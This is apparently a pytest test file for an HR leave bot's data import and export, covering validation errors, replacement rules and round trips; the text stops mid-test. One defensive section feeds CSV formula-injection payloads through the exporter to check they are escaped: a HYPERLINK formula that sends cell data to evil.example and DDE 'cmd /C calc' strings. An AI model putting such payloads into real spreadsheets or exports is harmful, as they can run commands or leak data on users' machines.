"""Import and export of HR data, on SQLite and PostgreSQL: what is accepted and served, every refusal
(listed all at once, nothing written), per-employee replacement, and lossless round trips."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Literal

import pytest
from sqlalchemy import delete, func, insert, select
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.db.hr import SqlHrStore, email_key
from bot.db.import_export import (
    EMPLOYEE_COLUMNS,
    LEAVE_COLUMNS,
    ImportRefused,
    ImportSummary,
    check_data,
    export_data,
    import_files,
)
from bot.db.tables import employees, leave_grants, leave_records
from bot.domain.leave import Balance, LeaveRecord
from bot.ports.hr import UnknownEmployee
from tests.support.database import ScratchDatabase, make_test_database, release_test_database
from tests.support.ports import stored_balance

ROOT = Path(__file__).resolve().parents[1]
BUNDLED = ROOT / "fixtures" / "employees.json"
DATA = Path(__file__).resolve().parent / "data"
GOOD_CSV = [DATA / "good" / name for name in ("employees.csv", "grants.csv", "leave.csv")]
BAD_CSV = [DATA / "bad" / name for name in ("employees.csv", "grants.csv", "leave.csv")]
BAD_JSON = DATA / "bad" / "hr.json"


def write(directory: Path, name: str, content: str | bytes) -> Path:
    path = directory / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


async def row_counts(engine: AsyncEngine) -> tuple[int, int, int]:
    async with engine.connect() as connection:
        counts = [
            (await connection.execute(select(func.count()).select_from(table))).scalar_one()
            for table in (employees, leave_grants, leave_records)
        ]
    return counts[0], counts[1], counts[2]


async def exported(
    engine: AsyncEngine, directory: Path, fmt: Literal["csv", "json"] = "csv"
) -> dict[str, str]:
    paths = await export_data(engine, directory, fmt)
    return {path.name: path.read_text(encoding="utf-8") for path in paths}


async def exported_bytes(engine: AsyncEngine, directory: Path) -> dict[str, bytes]:
    """The CSV files exactly as written (read_text would turn a carriage return in a cell into a line feed)."""
    return {path.name: path.read_bytes() for path in await export_data(engine, directory)}


async def refused(engine: AsyncEngine, paths: list[Path], **options: bool) -> list[str]:
    with pytest.raises(ImportRefused) as refusal:
        await import_files(engine, paths, **options)
    return refusal.value.problems


# --- Accepted data, served -------------------------------------------------------------------------------


async def test_the_bundled_data_is_imported_and_served(database: ScratchDatabase, tmp_path: Path) -> None:
    summary = await import_files(database.engine, [BUNDLED])
    assert summary == ImportSummary(employees=5, grants=11, records=9, added=5, replaced=0, dry_run=False)
    store = SqlHrStore(database.engine)
    assert await stored_balance(store, "E1001", 2026) == Balance(2026, Decimal(15), Decimal("7.5"))
    assert (await stored_balance(store, "E1002", 2025)).lapsed == Decimal("6.75")
    taken = await store.leave_taken("E1001", 2026)
    assert len(taken.records) == 6 and dict(taken.totals) == {"annual": Decimal("7.5"), "sick": Decimal(1)}
    employee = await store.employee_by_email("yujin.choi@EXAMPLE.com")
    assert employee is not None and employee.employee_id == "E1004"
    # Exported again, the bundled file comes back byte for byte.
    assert (await exported(database.engine, tmp_path, "json"))["employees.json"] == BUNDLED.read_text("utf-8")


async def test_a_csv_set_is_imported_and_served(database: ScratchDatabase, tmp_path: Path) -> None:
    summary = await import_files(database.engine, GOOD_CSV)
    assert summary == ImportSummary(employees=3, grants=4, records=6, added=3, replaced=0, dry_run=False)
    store = SqlHrStore(database.engine)
    # Used = the opening adjustment + the year's annual records; sick leave is kept but does not count.
    assert await stored_balance(store, "E2001", 2026) == Balance(2026, Decimal(15), Decimal("5.5"))
    # 2025's 14 left lapsed after its December 31.
    assert await stored_balance(store, "E2001", 2025) == Balance(
        2025, Decimal(15), Decimal(1), lapsed=Decimal(14)
    )
    assert (await stored_balance(store, "E2003", 2026)).remaining == Decimal(-1)  # allow_negative
    taken = await store.leave_taken("E2001", 2026)
    assert taken.records == (
        LeaveRecord(date(2026, 3, 2), Decimal("0.5"), "annual", "반차"),
        LeaveRecord(date(2026, 5, 4), Decimal(3), "annual", '연휴, "가족" 여행'),
        LeaveRecord(date(2026, 6, 10), Decimal(2), "sick", None),
    )
    assert (await store.leave_taken("E2002", 2026)).records[0].leave_type == "annual"  # empty type
    assert await store.employee_by_id("E2003") is None  # inactive: not served
    kim = await store.employee_by_email("ara.kim@example.com")
    assert kim is not None and kim.name == "Kim, Ara" and kim.hire_date == date(2024, 7, 15) and kim.active

    # A UTF-8 BOM (as Excel writes) and CRLF line ends are fine, in CSV and JSON alike.
    bom = "\ufeff"
    people = write(
        tmp_path, "people.csv", bom + "employee_id,name,email,slack_user_id,hire_date\r\nB1,비,b@x.kr,,\r\n"
    )
    grants = write(tmp_path, "g.csv", bom + "employee_id,year,granted\r\nB1,2026,15\r\n")
    hr = write(
        tmp_path,
        "hr.json",
        bom + '{"employees": [{"employee_id": "B2", "name": "B", "email": "b2@x.kr",'
        ' "annual_leave": {"2026": {"granted": 3, "used": 1}}}]}',
    )
    await import_files(database.engine, [people, grants, hr])
    assert await stored_balance(store, "B1", 2026) == Balance(2026, Decimal(15), Decimal(0))
    assert await stored_balance(store, "B2", 2026) == Balance(2026, Decimal(3), Decimal(1))


# --- Refusals -------------------------------------------------------------------------------------------


async def test_every_problem_in_a_csv_set_is_reported_and_nothing_written(
    database: ScratchDatabase, tmp_path: Path
) -> None:
    await import_files(database.engine, [BUNDLED])
    before = await exported(database.engine, tmp_path / "before")
    e, g, v = (str(path) for path in BAD_CSV)
    problems = await refused(database.engine, BAD_CSV)
    assert problems == [
        f"{e}:3: employee_id: duplicate employee_id E3001 (also at {e}:2)",
        f"""{e}:4: employee_id: "E 3002" is not 1-32 letters, digits, '-' or '_'""",
        f"{e}:4: name: must not be empty",
        f'{e}:4: email: "no-at-sign" is not an email address',
        f'{e}:4: slack_user_id: "u3002" is not a Slack user id (capital letters and digits, like U0123ABCD)',
        f'{e}:4: hire_date: "2026/01/02" is not a date YYYY-MM-DD',
        f'{e}:4: active: "maybe" is not true/false (or 1/0, yes/no)',
        f'{e}:5: hire_date: "2026-02-30" is not a real date',
        f"{e}:5: email: OK@Example.com is also the email of E3001 ({e}:2)",
        f"{e}:5: slack_user_id: U3001AAAA is also the Slack user of E3001 ({e}:2)",
        f"{e}:6: email: MINSU.KIM@example.com is already the email of E1001 in the database",
        f"{e}:6: slack_user_id: U0456EFGH is already the Slack user of E1002 in the database",
        f'{e}:7: hire_date: "２０２６-01-02" has full-width or other non-ASCII digits: write a date YYYY-MM-DD with 0-9',
        f"{g}:3: year: duplicate grant for E3001 2026 (also at {g}:2)",
        f"{g}:4: year: 1999 is outside the years 2000-2100",
        f'{g}:5: year: "２０２５" has full-width or other non-ASCII digits: write a year YYYY with 0-9',
        f'{g}:6: granted: "-1" is not a number from 0 to 366',
        f"{g}:6: opening_used: 1.234 is not a number from 0 to 366 with at most 2 decimals",
        f'{g}:6: allow_negative: "sometimes" is not true/false (or 1/0, yes/no)',
        f"{g}:7: employee_id: unknown employee E9999 (2 rows): not in this import's employees nor in the database",
        f"{g}:9: year: E3001 2027: used 1.5 is more than granted 1; allow_negative is not set",
        f"{v}:3: days: 0.3 is not a positive multiple of 0.25 up to 366",
        f"{v}:4: days: 0 is not a positive multiple of 0.25 up to 366",
        f"{v}:5: days: 367 is not a positive multiple of 0.25 up to 366",
        f'{v}:6: date: "2026-13-01" is not a real date',
        f"{v}:7: date: 2101 is outside the years 2000-2100",
        f'{v}:8: type: "Annual" is not a lowercase word (a-z and _) like annual or sick',
        f'{v}:9: days: "１" has full-width or other non-ASCII digits: write a number of days like 1, 0.5 or 0.25 with 0-9',
        f"{v}:10: date: E3001 has annual leave in 2028 but no grant for 2028",
        f"{v}:12: row: has 6 fields, the header has 5",
        f"{v}:13: employee_id: unknown employee E9998: not in this import's employees nor in the database",
    ]
    assert await exported(database.engine, tmp_path / "after") == before
    # A dry run refuses the same way.
    assert await refused(database.engine, BAD_CSV, dry_run=True) == problems


async def test_every_problem_in_a_json_file_is_reported_and_nothing_written(
    database: ScratchDatabase,
) -> None:
    await import_files(database.engine, [BUNDLED])
    j = str(BAD_JSON)
    with pytest.raises(ImportRefused) as refusal:
        await import_files(database.engine, [BAD_JSON], replace_all=True)
    assert refusal.value.problems == [
        f'{j}:employees[0] (J1): annual_leave.2026.granted: must be a number, not the string "15"',
        f'{j}:employees[1] (J2): hire_date: "２０２０-01-01" has full-width or other non-ASCII digits: '
        "write a date YYYY-MM-DD with 0-9",
        f"{j}:employees[1] (J2): active: must be true or false",
        f"{j}:employees[1] (J2): annual_leave.2026: duplicate key",
        f'{j}:employees[1] (J2): leave_taken[1].days: must be a number, not the string "0.5"',
        f"{j}:employees[1] (J2): leave_taken[2].kind: unknown key (expected one of date, days, note, type)",
        f'{j}:employees[1] (J2): leave_taken[3]: must be an object like {{"date": "2026-03-02", "days": 0.5}}',
        f"{j}:employees[2] (J1): employee_id: duplicate employee_id J1 (also at {j}:employees[0] (J1))",
        f"{j}:employees[3]: entry: must be an object",
        f"{j}:employees[4] (J4): extra: unknown key (expected one of active, annual_leave, below_80, email, "
        "employee_id, end_date, hire_date, leave_taken, manager_id, name, slack_user_id, weekly_hours)",
        f'{j}:employees[4] (J4): annual_leave.20x6: "20x6" is not a year YYYY',
        f'{j}:employees[4] (J4): annual_leave.2027: must be an object like {{"granted": 15, "used": 7.5}}',
        f"{j}:employees[4] (J4): annual_leave.2028.granted: must be a number",
        f"{j}:employees[4] (J4): annual_leave.2028.used: must be a number",
        f'{j}:employees[4] (J4): leave_taken: must be a list of {{"date", "days", "type", "note"}}',
        f"{j}:employees[5]: employee_id: missing",
        # (J6's Slack user is E1001's, but replace_all would remove E1001: no clash.)
        f"{j}:employees[6] (J6): leave_taken[1].date: J6 has annual leave in 2027 but no grant for 2027",
        f"{j}:employees[6] (J6): annual_leave.2026: J6 2026: used 10.5 is more than granted 10; "
        "allow_negative is not set",
    ]
    assert str(refusal.value) == f"{refusal.value.problems[0]} (and 17 more)"
    assert await row_counts(database.engine) == (5, 11, 9)  # replace_all removed nobody


EMPLOYEES_HEADER = "employee_id,name,email,slack_user_id,hire_date\n"
ONE_EMPLOYEE = '{"employees": [{"employee_id": "E1", "name": "N", "email": "n@x.kr", "annual_leave": %s}]}'

# (files to write, problems expected with {d} for the folder); each refused on an empty database.
REFUSALS: list[tuple[dict[str, str | bytes], list[str]]] = [
    ({"hr.json": '{"employees": [}'}, ["{d}/hr.json:1: json: not valid JSON (column 16: Expecting value)"]),
    ({"hr.json": "[]"}, ['{d}/hr.json:top level: employees: expected {{"employees": [...]}}']),
    (
        {"hr.json": '{"employees": []}'},
        ["{d}/hr.json:top level: employees: the list is empty: there is no employee to import"],
    ),
    (
        {"hr.json": '{"employees": [], "employees": []}'},
        ["{d}/hr.json:top level: employees: duplicate key"],
    ),
    (
        {"hr.json": ONE_EMPLOYEE % '{"2026": {"granted": 1e400}}'},
        [
            "{d}/hr.json:employees[0] (E1): annual_leave.2026.granted: 1E+400 is not a number from 0 to 366 "
            "with at most 2 decimals"
        ],
    ),
    (
        {"hr.json": ONE_EMPLOYEE % "null"},
        [
            '{d}/hr.json:employees[0] (E1): annual_leave: missing, like {{"2026": {{"granted": 15, "used": 7.5}}}}'
        ],
    ),
    (
        {"hr.json": ONE_EMPLOYEE % '{"２０２６": {"granted": 1}}'},
        [
            '{d}/hr.json:employees[0] (E1): annual_leave.２０２６: "２０２６" has full-width or other non-ASCII '
            "digits: write a year YYYY with 0-9"
        ],
    ),
    (
        {"a.csv": "id,name\nE1,x\n"},
        [
            "{d}/a.csv:1: header: columns id,name are none of the accepted sets: employees: employee_id,name,email,"
            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80,manager_id); grants: employee_id,year,granted (+ optional "
            "opening_used,allow_negative); leave: employee_id,date,days,type,note"
        ],
    ),
    (
        {"a.csv": "employee_id,year,granted,year\n"},
        [
            "{d}/a.csv:1: header: columns employee_id,year,granted,year are none of the accepted sets: "
            "employees: employee_id,name,email,slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80,manager_id); grants: "
            "employee_id,year,granted (+ optional opening_used,allow_negative); leave: employee_id,date,days,"
            "type,note"
        ],
    ),
    (
        {"a.csv": "\n"},
        [
            "{d}/a.csv:1: header: the file is empty; expected employees: employee_id,name,email,"
            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80,manager_id); grants: employee_id,year,granted "
            "(+ optional opening_used,allow_negative); leave: employee_id,date,days,type,note"
        ],
    ),
    (
        {"a.csv": (EMPLOYEES_HEADER + "E1,ok,a@x.kr,,\nE2,홍길동,h@x.kr,,\n").encode("cp949")},
        ["{d}/a.csv:3: file: not UTF-8 text"],
    ),
    (
        {"a.csv": EMPLOYEES_HEADER + 'E1,"N,a@x.kr,,\n'},
        ["{d}/a.csv:2: row: not valid CSV (unexpected end of data)"],
    ),
    ({"a.txt": "x"}, ["{d}/a.txt: file: not a .json or .csv file"]),
    (
        # A note may span lines: the next row's problem names its own first line.
        {
            "leave.csv": 'employee_id,date,days,type,note\nX1,2026-01-02,1,sick,"two\nlines"\nX1,2026-01-02,２,sick,\n'
        },
        [
            "{d}/leave.csv:2: employee_id: unknown employee X1 (2 rows): not in this import's employees "
            "nor in the database",
            '{d}/leave.csv:4: days: "２" has full-width or other non-ASCII digits: write a number of days '
            "like 1, 0.5 or 0.25 with 0-9",
        ],
    ),
]


async def test_each_refusal_rule(database: ScratchDatabase, tmp_path: Path) -> None:
    for number, (files, expected) in enumerate(REFUSALS):
        folder = tmp_path / f"case{number}"
        folder.mkdir()
        paths = [write(folder, name, content) for name, content in files.items()]
        problems = await refused(database.engine, paths)
        assert problems == [line.format(d=folder) for line in expected], f"case {number}: {files}"
    assert await refused(database.engine, [tmp_path / "missing.json"]) == [
        f"{tmp_path}/missing.json: file: cannot read (FileNotFoundError)"
    ]
    assert await refused(database.engine, []) == ["no files to import"]
    assert await row_counts(database.engine) == (0, 0, 0)


# --- What an import replaces ----------------------------------------------------------------------------


async def test_a_dry_run_writes_nothing_and_a_reimport_changes_nothing(
    database: ScratchDatabase, tmp_path: Path
) -> None:
    summary = await import_files(database.engine, [BUNDLED, *GOOD_CSV], dry_run=True)
    assert summary == ImportSummary(employees=8, grants=15, records=15, added=8, replaced=0, dry_run=True)
    assert await row_counts(database.engine) == (0, 0, 0)

    await import_files(database.engine, [BUNDLED, *GOOD_CSV])
    first = await exported(database.engine, tmp_path / "first")
    again = await import_files(database.engine, [BUNDLED, *GOOD_CSV])
    assert (again.added, again.replaced) == (0, 8)
    assert await exported(database.engine, tmp_path / "again") == first


async def test_an_import_replaces_only_the_employees_it_names(
    database: ScratchDatabase, tmp_path: Path
) -> None:
    await import_files(database.engine, [BUNDLED, *GOOD_CSV])
    grants = write(tmp_path, "grants.csv", "employee_id,year,granted\nE1001,2026,20\n")
    leave = write(tmp_path, "leave.csv", "employee_id,date,days,type,note\nE1001,2026-02-02,1.5,annual,\n")
    summary = await import_files(database.engine, [grants, leave])
    assert (summary.added, summary.replaced) == (0, 1)
    store = SqlHrStore(database.engine)
    # E1001's grants are what the import says (2025's is gone; 2026's opening adjustment too) ...
    assert await stored_balance(store, "E1001", 2026) == Balance(2026, Decimal(20), Decimal("1.5"))
    assert await row_counts(database.engine) == (8, 14, 10)
    # ... and everybody else is as before.
    assert await stored_balance(store, "E1002", 2026) == Balance(2026, Decimal(16), Decimal("3.75"))
    assert await stored_balance(store, "E2001", 2026) == Balance(2026, Decimal(15), Decimal("5.5"))


async def test_what_an_import_does_not_carry_stays(database: ScratchDatabase, tmp_path: Path) -> None:
    await import_files(database.engine, [BUNDLED])
    store = SqlHrStore(database.engine)
    # An employees file alone: names change, grants and leave stay. Two employees may swap their email
    # and Slack user in one import.
    people = write(
        tmp_path,
        "people.csv",
        EMPLOYEES_HEADER + "E1001,김민수,seoyeon.lee@example.com,U0456EFGH,2020-01-02\n"
        "E1002,이서연,minsu.kim@example.com,U0123ABCD,\n",
    )
    await import_files(database.engine, [people])
    seoyeon = await store.employee_by_slack_user_id("U0123ABCD")
    assert seoyeon is not None and seoyeon.employee_id == "E1002"
    assert await stored_balance(store, "E1001", 2026) == Balance(2026, Decimal(15), Decimal("7.5"))

    # Leave alone: checked against the grants the database keeps.
    too_much = write(tmp_path, "leave.csv", "employee_id,date,days,type,note\nE1001,2026-09-01,16,annual,\n")
    assert await refused(database.engine, [too_much]) == [
        f"{too_much}:2: date: E1001 2026: used 16 is more than granted 15 (grant in the database); "
        "allow_negative is not set"
    ]
    leave = write(tmp_path, "leave2.csv", "employee_id,date,days,type,note\nE1001,2026-09-01,0.5,annual,\n")
    await import_files(database.engine, [leave])  # replaces E1001's records; the grant stays
    assert await stored_balance(store, "E1001", 2026) == Balance(2026, Decimal(15), Decimal("0.5"))

    # Grants alone: checked against the leave the database keeps.
    grants = write(tmp_path, "grants.csv", "employee_id,year,granted,opening_used\nE1001,2026,8,7.75\n")
    assert await refused(database.engine, [grants]) == [
        f"{grants}:2: year: E1001 2026: used 8.25 is more than granted 8; allow_negative is not set"
    ]
    no_2026 = write(tmp_path, "grants2.csv", "employee_id,year,granted\nE1001,2025,15\n")
    assert await refused(database.engine, [no_2026]) == [
        f"{no_2026}:2: year: E1001 has annual leave in 2026 (leave in the database) but no grant for 2026"
    ]


async def test_replace_all_leaves_exactly_the_imported_employees(
    database: ScratchDatabase, tmp_path: Path
) -> None:
    await import_files(database.engine, [BUNDLED, *GOOD_CSV])
    one = write(tmp_path, "one.json", ONE_EMPLOYEE % '{"2026": {"granted": 15, "used": 1}}')
    summary = await import_files(database.engine, [one], replace_all=True)
    assert (summary.added, summary.replaced, summary.removed) == (1, 0, 8)
    assert await row_counts(database.engine) == (1, 1, 0)  # grants and leave went with their employees
    with pytest.raises(UnknownEmployee):
        await stored_balance(SqlHrStore(database.engine), "E1001", 2026)


# --- Export ---------------------------------------------------------------------------------------------


async def test_export_import_export_is_lossless(database: ScratchDatabase, tmp_path: Path) -> None:
    empty = await exported(database.engine, tmp_path / "empty", "json")
    assert empty == {"employees.json": '{\n  "employees": []\n}\n'}
    assert (await exported(database.engine, tmp_path / "empty"))[
        "leave.csv"
    ] == "employee_id,date,days,type,note\n"
    extra = write(
        tmp_path,
        "extra.json",
        '{"employees": [{"employee_id": "X-1_a", "name": " 공백 ", "email": "X@x.kr", "hire_date": "2019-12-31",'
        ' "end_date": "2027-01-31", "weekly_hours": 22.50, "below_80": [3, 1],'
        ' "active": false, "annual_leave": {"2026": {"granted": 0.5, "used": 0, "allow_negative": true}},'
        ' "leave_taken": [{"date": "2026-12-31", "days": 2.50, "note": "줄\\n바꿈, \\"따옴표\\""},'
        ' {"date": "2026-12-31", "days": 366, "type": "unpaid_leave"}]}]}',
    )
    await import_files(database.engine, [BUNDLED, *GOOD_CSV, extra])
    (tmp_path / "second").mkdir()
    second = await make_test_database(database.database.url.get_backend_name(), tmp_path / "second")
    formats: tuple[Literal["csv", "json"], ...] = ("csv", "json")
    try:
        for fmt in formats:
            first = await exported(database.engine, tmp_path / fmt / "first", fmt)
            async with second.engine.begin() as connection:
                await connection.execute(delete(employees))  # grants and leave go with them
            summary = await import_files(second.engine, sorted((tmp_path / fmt / "first").iterdir()))
            assert (summary.employees, summary.grants, summary.records, summary.added) == (9, 16, 17, 9), fmt
            assert await exported(second.engine, tmp_path / fmt / "again", fmt) == first, fmt
    finally:
        await release_test_database(second)
    # Amounts without trailing zeros; JSON in the bundled file's layout.
    assert (
        first["employees.json"].count('{"date": "2026-12-31", "days": 2.5, "type": "annual", "note": "줄\\n')
        == 1
    )
    csv_grants = (tmp_path / "csv" / "first" / "grants.csv").read_text("utf-8")
    assert csv_grants.splitlines()[1] == "E1001,2025,15,11.5,false"


# Text a spreadsheet would run as a formula, in every free-text column (an employee id may begin with
# '-'), and text that begins with a quote. The importer strips surrounding whitespace, so the leading tab
# and carriage return go straight into the tables, as HR's own tooling could write them.
HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"click")'
FORMULA_EMPLOYEES = [
    ("F1", HYPERLINK, "=f1@evil.example"),
    ("F2", "+cmd|' /C calc'!A0", "+f2@example.com"),
    ("-cmd", "-2+3", "-f3@example.com"),
    ("F4", "@SUM(1+1)*cmd|' /C calc'!A0", "@f4.example"),
    ("F5", "'Ollie", "'ollie@example.com"),
    ("F8", "-1.5", "f8@example.com"),  # a plain number: a spreadsheet reads it as one, not as a formula
]
FORMULA_NOTES = ["=1+1", "+1", "-1-1", "@A1", "'quoted", "-0.5"]
WRITTEN_BY_OTHER_TOOLS = [("F6", "\t=1+1", "\tf6@example.com"), ("F7", "\r=1+1", "\rf7@example.com")]
# A carriage return anywhere must be quoted, or a spreadsheet starts a new row (here: `=2+2`) there.
NOTES_WRITTEN_BY_OTHER_TOOLS = ["\t-1", "\r@A1", "ok\r=2+2"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(rows: list[tuple[str, ...]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


async def store_formula_like_text(engine: AsyncEngine, directory: Path) -> None:
    people = write(
        directory,
        "people.csv",
        csv_text([EMPLOYEE_COLUMNS, *((*row, "", "", "true", "", "", "", "") for row in FORMULA_EMPLOYEES)]),
    )
    ids = [row[0] for row in FORMULA_EMPLOYEES] + [row[0] for row in WRITTEN_BY_OTHER_TOOLS]
    grants = write(
        directory,
        "grants.csv",
        csv_text([("employee_id", "year", "granted"), ("-cmd", "2026", "1"), ("F1", "2026", "15")]),
    )
    await import_files(engine, [people, grants])
    leave = write(
        directory,
        "leave.csv",
        csv_text(
            [
                LEAVE_COLUMNS,
                ("-cmd", "2026-01-01", "1", "annual", ""),
                *(
                    ("F1", f"2026-01-{day:02}", "0.5", "annual", note)
                    for day, note in enumerate(FORMULA_NOTES, 1)
                ),
            ]
        ),
    )
    await import_files(engine, [leave])
    async with engine.begin() as connection:
        await connection.execute(
            insert(employees),
            [
                {
                    "employee_id": employee_id,
                    "name": name,
                    "email": email,
                    "email_key": email_key(email),
                    "active": True,
                }
                for employee_id, name, email in WRITTEN_BY_OTHER_TOOLS
            ],
        )
        await connection.execute(
            insert(leave_records),
            [
                {
                    "employee_id": "F1",
                    "taken_on": date(2026, 2, day),
                    "days": Decimal(1),
                    "leave_type": "sick",
                    "note": note,
                }
                for day, note in enumerate(NOTES_WRITTEN_BY_OTHER_TOOLS, 1)
            ],
        )
    people_rows, _, _ = await stored_rows(engine)
    assert [row[0] for row in people_rows] == sorted(ids)


async def stored_rows(engine: AsyncEngine) -> tuple[list[tuple[object, ...]], ...]:
    """Every employee, grant and leave record as stored (a record without its generated id)."""
    async with engine.connect() as connection:
        people = await connection.execute(select(employees).order_by(employees.c.employee_id))
        grants = await connection.execute(
            select(leave_grants).order_by(leave_grants.c.employee_id, leave_grants.c.year)
        )
        columns = [column for column in leave_records.c if column.name not in ("id", "request_id")]
        records = await connection.execute(
            select(*columns).order_by(
                leave_records.c.employee_id, leave_records.c.taken_on, leave_records.c.id
            )
        )
        return [tuple(row) for row in people], [tuple(row) for row in grants], [tuple(row) for row in records]


def csv_cells(directory: Path) -> list[str]:
    cells: list[str] = []
    for name in ("employees.csv", "grants.csv", "leave.csv"):
        with (directory / name).open(encoding="utf-8", newline="") as file:
            cells.extend(cell for row in csv.reader(file) for cell in row)
    return cells


async def test_csv_export_writes_no_cell_a_spreadsheet_would_run(
    database: ScratchDatabase, tmp_path: Path
) -> None:
    await store_formula_like_text(database.engine, tmp_path)
    async with database.engine.begin() as connection:  # a negative amount, as another tool could store it
        await connection.execute(
            insert(leave_grants),
            [
                {
                    "employee_id": "F1",
                    "year": 2025,
                    "granted": Decimal(1),
                    "opening_used": Decimal("-1.5"),
                    "allow_negative": True,
                }
            ],
        )
    files = {
        name: data.decode("utf-8")
        for name, data in (await exported_bytes(database.engine, tmp_path / "out")).items()
    }
    cells = csv_cells(tmp_path / "out")
    # No cell begins with a formula character, except a plain number; a leading quote is always the
    # added one (before a formula character or another quote).
    formulas = [
        cell
        for cell in cells
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)
    ]
    assert formulas == []
    assert [
        cell for cell in cells if cell.startswith("'") and not cell[1:].startswith((*FORMULA_STARTS, "'"))
    ] == []
    employees_csv = files["employees.csv"].split("\n")  # a cell holds a \r
    assert (
        'F1,"\'=HYPERLINK(""http://evil.example/""&A1,""click"")",\'=f1@evil.example,,,true,,,,'
        in employees_csv
    )
    assert "F5,''Ollie,''ollie@example.com,,,true,,,," in employees_csv
    assert "F8,-1.5,f8@example.com,,,true,,,," in employees_csv
    assert "'-cmd,'-2+3,'-f3@example.com,,,true,,,," in employees_csv
    assert "F6,'\t=1+1,'\tf6@example.com,,,true,,,," in employees_csv
    assert 'F7,"\'\r=1+1","\'\rf7@example.com",,,true,,,,' in employees_csv
    assert files["grants.csv"].splitlines()[1:] == [
        "'-cmd,2026,1,0,false",
        "F1,2025,1,-1.5,true",
        "F1,2026,15,0,false",
    ]
    leave_csv = files["leave.csv"].split("\n")
    assert leave_csv[1:3] == ["'-cmd,2026-01-01,1,annual,", "F1,2026-01-01,0.5,annual,'=1+1"]
    assert "F1,2026-01-06,0.5,annual,-0.5" in leave_csv and 'F1,2026-02-03,1,sick,"ok\r=2+2"' in leave_csv
    # JSON is not opened by spreadsheets: written as the data is.
    json_text = (await exported(database.engine, tmp_path / "json", "json"))["employees.json"]
    assert '"name": "=HYPERLINK(\\"http://evil.example/\\"&A1,\\"click\\")"' in json_text
    assert '"name": "\\t=1+1"' in json_text and '"name": "\'Ollie"' in json_text


async def test_formula_like_text_survives_export_import_export(
    database: ScratchDatabase, tmp_path: Path
) -> None:
    await store_formula_like_text(database.engine, tmp_path)
    first = await exported_bytes(database.engine, tmp_path / "first")
    (tmp_path / "second").mkdir()
    second = await make_test_database(database.database.url.get_backend_name(), tmp_path / "second")
    try:
        await import_files(second.engine, sorted((tmp_path / "first").iterdir()))
        assert await exported_bytes(second.engine, tmp_path / "again") == first
        assert await stored_rows(second.engine) == await stored_rows(database.engine)
        people, _, records = await stored_rows(second.engine)
    finally:
        await release_test_database(second)
    names = {row[0]: row[1] for row in people}
    assert names["F1"] == HYPERLINK and names["F5"] == "'Ollie" and names["F6"] == "\t=1+1"
    assert names["F7"] == "\r=1+1" and names["-cmd"] == "-2+3" and names["F8"] == "-1.5"
    assert [row[-1] for row in records if row[0] == "F1"] == [*FORMULA_NOTES, *NOTES_WRITTEN_BY_OTHER_TOOLS]


async def test_a_hand_written_leading_quote_is_kept(database: ScratchDatabase, tmp_path: Path) -> None:
    # (written by hand, stored, exported): only a quote before a formula character or another quote is
    # taken for the exporter's; every stored text beginning with a quote is exported with one more.
    cases = [
        ("'Ollie", "'Ollie", "''Ollie"),
        ("'1", "'1", "''1"),
        ("'", "'", "''"),
        ("'=1+1", "=1+1", "'=1+1"),
        ("''Ollie", "'Ollie", "''Ollie"),
        ("'-1.5", "-1.5", "-1.5"),
        ("'\t@A1", "\t@A1", "'\t@A1"),
    ]
    rows = [
        (f"E{i}", written, f"e{i}@x.kr", "", "", "true", "", "", "", "")
        for i, (written, _, _) in enumerate(cases)
    ]
    await import_files(database.engine, [write(tmp_path, "people.csv", csv_text([EMPLOYEE_COLUMNS, *rows]))])
    people, _, _ = await stored_rows(database.engine)
    assert [row[1] for row in people] == [stored for _, stored, _ in cases]
    lines = (await exported(database.engine, tmp_path / "out"))["employees.csv"].splitlines()
    assert [line.split(",")[1] for line in lines[1:]] == [written_out for _, _, written_out in cases]


async def test_check_data_reports_what_import_would_refuse(database: ScratchDatabase) -> None:
    await import_files(database.engine, [BUNDLED])
    assert await check_data(database.engine) == []
    async with database.engine.begin() as connection:
        await connection.execute(
            insert(employees),
            [
                {
                    "employee_id": "C1",
                    "name": "C1",
                    "email": "Same@x.kr",
                    "email_key": "same@x.kr",
                    "active": True,
                },
                # email_key written wrong by some other tool: the emails still clash under case-folding.
                {
                    "employee_id": "C2",
                    "name": "C2",
                    "email": "same@X.KR",
                    "email_key": "oops",
                    "active": True,
                },
            ],
        )
        await connection.execute(
            insert(leave_grants),
            [
                {
                    "employee_id": "C1",
                    "year": 2026,
                    "granted": Decimal(10),
                    "opening_used": Decimal(9),
                    "allow_negative": False,
                },
                {
                    "employee_id": "E1001",
                    "year": 2024,
                    "granted": Decimal(1),
                    "opening_used": Decimal(3),
                    "allow_negative": True,
                },
            ],
        )
        await connection.execute(
            insert(leave_records),
            [
                {
                    "employee_id": "C1",
                    "taken_on": date(2026, 5, 1),
                    "days": Decimal("1.5"),
                    "leave_type": "annual",
                },
                {
                    "employee_id": "C1",
                    "taken_on": date(2026, 5, 2),
                    "days": Decimal("0.3"),
                    "leave_type": "sick",
                },
                {
                    "employee_id": "C1",
                    "taken_on": date(2027, 1, 4),
                    "days": Decimal(1),
                    "leave_type": "annual",
                },
            ],
        )
    assert await check_data(database.engine) == [
        "employee C1: 2026-05-02: days 0.3 is not a positive multiple of 0.25 up to 366",
        "employee C1: 2027: annual leave taken (1 day) but no grant for 2027",
        "employee C1: 2026: used 10.5 is more than granted 10",
        "employee C2: no leave grants at all",
        "employee C2: email same@X.KR is also the email of C1 (ignoring case)",
    ]


async def test_an_import_and_the_bots_audit_writes_share_one_sqlite_file(tmp_path: Path) -> None:
    from bot.db.audit import SqlAuditLog
    from bot.ports.audit import LookupRecord
    from tests.support.database import make_test_database, release_test_database

    db = await make_test_database("sqlite", tmp_path, seeded=True)
    rows = "".join(f"E{9000 + i},직원{i},e{i}@example.com,,\n" for i in range(3000))
    people = write(tmp_path, "many.csv", EMPLOYEES_HEADER + rows)
    sink = SqlAuditLog(db.engine)
    entry = LookupRecord(
